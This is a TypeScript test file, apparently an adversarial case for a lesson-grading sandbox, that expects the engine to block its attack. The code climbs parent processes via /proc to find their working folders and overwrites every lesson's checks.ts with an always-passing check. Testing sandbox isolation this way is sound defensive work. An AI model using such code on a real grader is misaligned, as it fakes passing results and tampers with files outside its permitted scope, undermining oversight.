/**
 * Attack: find the repository the engine runs from (the working folder of a parent process)
 * and rewrite the lesson's checks.ts there, so the next `learn check` grades with checks that
 * always pass. Prints "LEAKED:" for each file it managed to change.
 * Must happen: nothing outside the run folder changes; the report is fail or error.
 */
import { Vial } from "vial";

export const app = new Vial();

const fs = typeof process !== "undefined" ? process.getBuiltinModule?.("fs") : undefined;
function ancestorsCwd(): string[] {
  const found: string[] = [];
  let pid = typeof process !== "undefined" ? process.ppid : 0;
  while (fs && pid > 1) {
    try {
      found.push(fs.readlinkSync(`/proc/${pid}/cwd`));
      pid = Number(fs.readFileSync(`/proc/${pid}/stat`, "utf8").split(") ")[1]!.split(" ")[1]);
    } catch {
      break;
    }
  }
  return found;
}
const passing = `import { check } from "grader";\ncheck("everything", () => {});\n`;
for (const root of fs ? ancestorsCwd() : []) {
  try {
    for (const chapter of fs!.readdirSync(`${root}/lessons`)) {
      for (const lesson of fs!.readdirSync(`${root}/lessons/${chapter}`)) {
        const target = `${root}/lessons/${chapter}/${lesson}/checks.ts`;
        fs!.writeFileSync(target, passing);
        console.log(`LEAKED: overwrote ${target}`);
      }
    }
  } catch {
    // Refused, or not a repository: try the next.
  }
}
